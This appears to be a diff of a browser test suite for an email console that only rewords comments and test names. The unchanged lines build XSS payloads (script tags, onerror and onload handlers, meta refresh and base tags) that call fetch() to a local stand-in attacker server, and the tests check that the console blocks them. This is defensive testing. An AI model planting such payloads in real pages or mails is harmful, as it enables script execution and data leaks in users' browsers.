@@ -14,15 +14,15 @@ import {
 } from '../../support/service.ts'
 import { waitFor } from '../../support/waitFor.ts'
 
-/** An attacker's server: every request to it is a leak. */
+/** Stands for an attacker's server. Every request to this server is a leak. */
 let evil: Receiver
-/** A script that opens a dialog and calls the attacker's server. */
+/** Returns a script that opens a dialog and calls the attacker's server. */
 const run = () => `alert(1);fetch('${evilOrigin()}/ran')`
 const evilOrigin = () => `http://127.0.0.1:${evil.port}`
 const markup = () =>
   `"'><img src=x onerror="${run()}"><svg onload="${run()}"><script>${run()}</script>`
 
-/** Known attacks in mails. */
+/** Contains known attacks by mail. */
 const hostileHtml =
   () => `<html><head><base href="${evilOrigin()}/"><meta http-equiv="refresh" content="0;url=${evilOrigin()}/refresh">
 <link rel="stylesheet" href="${evilOrigin()}/style.css"><link rel="dns-prefetch" href="//127.0.0.1:${evil.port}"><link rel="preconnect" href="${evilOrigin()}">
@@ -68,8 +68,8 @@ function watch(page: Page): string[] {
   return seen
 }
 
-describe.skipIf(!hasBrowser)('hostile content', () => {
-  test('runs and loads outside the console, so that this test can detect it', async () => {
+describe.skipIf(!hasBrowser)('the console meets hostile content', () => {
+  test('hostile content runs and loads outside the console, so that this test can detect it', async () => {
     const page = await (await browser.newContext()).newPage()
     const seen = watch(page)
     await page.setContent(hostileHtml()).catch(() => {})
@@ -78,7 +78,7 @@ describe.skipIf(!hasBrowser)('hostile content', () => {
     await waitFor('the stranger to hear of it', () => evil.requests.length >= 5)
   })
 
-  test('neither runs nor loads in the console: subject, sender, body, filename, header, name, metadata', async () => {
+  test('hostile subject, sender, body, filename, header, name and metadata neither run nor load in the console', async () => {
     const { project, rawKey } = await createProject(service.database.pool, {
       name: markup(),
       purpose: 'SELLER',
@@ -119,7 +119,7 @@ describe.skipIf(!hasBrowser)('hostile content', () => {
       url: 'https://example.com/',
       events: ['message.received'],
     })
-    // The API would encode it.
+    // The API would encode the markup.
     await service.database.pool.query('update project_webhooks set url = $1', [markup()])
 
     await using console = await openConsole(browser, service)
@@ -159,7 +159,7 @@ describe.skipIf(!hasBrowser)('hostile content', () => {
     expect(await page.title()).not.toBe('taken')
   })
 
-  test('cannot leave its frame: opaque origin, no cookie, no storage, no navigation', async () => {
+  test('a mail cannot leave its frame: it has an opaque origin and no cookie, storage or navigation', async () => {
     await using console = await openConsole(browser, service)
     const { page } = console
     await console.open('projects')
@@ -182,7 +182,7 @@ describe.skipIf(!hasBrowser)('hostile content', () => {
       storage: 'SecurityError',
       parent: 'SecurityError',
     })
-    // frame-src of the page stops a navigation of the frame.
+    // The `frame-src` of the page stops a navigation of the frame.
     const seen = watch(page)
     await frame.evaluate(`location.href = '${evilOrigin()}/elsewhere'`).catch(() => {})
     await page.getByRole('button', { name: 'Text' }).click()
@@ -194,7 +194,7 @@ describe.skipIf(!hasBrowser)('hostile content', () => {
 
 test('elements that load, navigate, submit or run are removed from a mail', () => {
   const shown = framedHtml({ html: hostileHtml(), images: [] })
-  // Only the policy stops requests of a style.
+  // Only the content security policy stops the requests of a style.
   const body = shown.slice(shown.indexOf('<body>')).replace(/<style>[\s\S]*?<\/style>/g, '')
   expect(body).not.toMatch(
     /<(script|iframe|object|embed|link|meta|base|form|video|audio|source)\b/i,
